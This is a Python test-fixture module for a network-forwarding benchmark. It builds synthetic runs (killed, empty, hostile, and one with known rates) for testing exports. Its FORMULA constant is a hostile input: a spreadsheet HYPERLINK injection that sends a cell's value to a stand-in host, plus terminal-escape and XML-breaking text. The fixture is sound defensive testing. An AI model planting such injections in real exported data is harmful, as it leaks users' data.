# SPDX-License-Identifier: GPL-2.0-only
"""Runs that exports are tried on: killed, empty, hostile, and one whose rates are known to the digit."""

from __future__ import annotations

import dataclasses
import functools
import random
import tempfile
from pathlib import Path

from kbench.model import Trial, Verification
from kbench.store import Run, RunStore, load_run
from tests.unit import synthetic_findings
from tests.unit import synthetic_runs as synthetic

FORMULA = '=HYPERLINK("http://x/"&A1);+1\x1b[2J\n@x, \\ ]]> <b> \ud800'
"""A label that a spreadsheet, a terminal, XML, a metric's label and UTF-8 each have a reason to choke on."""
BLOCK_PPS = {0: 4.0e6, 1: 5.0e6, 2: 4.0e6}
"""Rate of all of a block's rounds: 250 ns, 200 ns, 250 ns per packet."""
ROUNDS_PER_BLOCK = 3
WARM_UP_PPS = 2.0e6


def trial(datapath: str, round_: int, pps: float, block: int = 0) -> Trial:
    """A rate trial of forwarding at exactly `pps`."""
    made = synthetic.wall_trial(synthetic.FORWARD, datapath, round_, random.Random(1), pps)
    made.forwarded_pps, made.block = pps, block
    return made


def known(root: Path, slower: float = 1.0) -> Run:
    """Blocks with `BLOCK_PPS` over `slower`, each after a warm-up; of xdp also an invalid and a contaminated trial."""
    document = synthetic.document((synthetic.HOST,), (synthetic.FORWARD,), 9)
    document["label"] = "known"
    document["facts"]["host"] |= {"hostname": "one", "cpu": {"model": "A CPU", "online": 2}}
    with RunStore.create(root, f"known-{slower:g}", document) as store:
        for datapath in ("xdp", "kernel"):
            store.append_verification(Verification("host", synthetic.FORWARD.case_id, datapath, 78, True))
        round_ = 0
        for block, pps in BLOCK_PPS.items():
            for datapath, factor in (("xdp", 1.0), ("kernel", 0.25)):
                first = trial(datapath, round_, WARM_UP_PPS * factor, block)
                first.warm_up = True
                store.append_trial(first)
            for _ in range(ROUNDS_PER_BLOCK):
                for datapath, factor in (("xdp", 1.0), ("kernel", 0.25)):
                    store.append_trial(trial(datapath, round_, pps * factor / slower, block))
                round_ += 1
        broken, disturbed = trial("xdp", round_, 1.0, 2), trial("xdp", round_, 2.0, 2)
        broken.valid, broken.problems = False, ["packets are unexplained"]
        disturbed.contaminated = ["the hypervisor took 9 %"]
        store.append_trial(broken)
        store.append_trial(disturbed)
        store.append_end("2000-01-01T00:02:00Z")
    return load_run(f"known-{slower:g}", root)


@functools.cache
def of_methods() -> Run:
    """A run of all methods, made once, as it takes seconds: to be read only. Its files are gone."""
    with tempfile.TemporaryDirectory() as root:
        return synthetic_findings.write(Path(root))


def of_methods_without_rates() -> Run:
    """The same without trials of the maximum rate."""
    run = of_methods()
    left = [trial for trial in run.trials if trial.purpose not in ("rate", "baseline")]
    return dataclasses.replace(run, trials=left)


def killed(root: Path) -> Run:
    """Two of nine rounds, no end record."""
    return synthetic.write_full(root, rounds=2, end=False, run_id="killed")


def planned_only(root: Path) -> Run:
    """Killed before its first trial."""
    document = synthetic.document((synthetic.HOST, synthetic.LAB), (synthetic.FORWARD, synthetic.FILTER), 9)
    RunStore.create(root, "planned", document).close()
    return load_run("planned", root)


def bare(root: Path) -> Run:
    """A run.json that says nothing, and no record."""
    RunStore.create(root, "bare", {}).close()
    return load_run("bare", root)


def functional(root: Path) -> Run:
    """Counters only, as under full emulation."""
    part = dataclasses.replace(synthetic.LAB, kind="functional")
    with RunStore.create(root, "functional", synthetic.document((part,), (synthetic.FORWARD,), 1)) as store:
        for datapath in ("netfilter", "xdp"):
            made = synthetic.exact_trial(datapath, 1, 1000.0)
            store.append_trial(dataclasses.replace(made, kind="functional", purpose="account"))
        store.append_end("2000-01-01T00:02:00Z")
    return load_run("functional", root)


def hostile(root: Path) -> Run:
    """Text that nobody vouches for, wherever a run holds text; not through the store, which refuses some of it."""
    run = synthetic.write_full(root, rounds=3, run_id="hostile")
    run.run["label"] = run.run["kbench_version"] = run.run["started_at"] = FORMULA
    run.facts["host"] |= {"hostname": FORMULA, "cpu": {"model": FORMULA}, "kernel": {"release": FORMULA}}
    for each in run.trials:
        each.started_at = FORMULA
        each.counters.dropped = {**each.counters.dropped, FORMULA: 0}
        if not each.valid:
            each.problems = [FORMULA]
    for proof in run.verifications:
        proof.differences = [FORMULA, *proof.differences] if proof.differences else []
    run.notices = [type(notice)(FORMULA, notice.part) for notice in run.notices]
    run.problems.append(FORMULA)
    return run
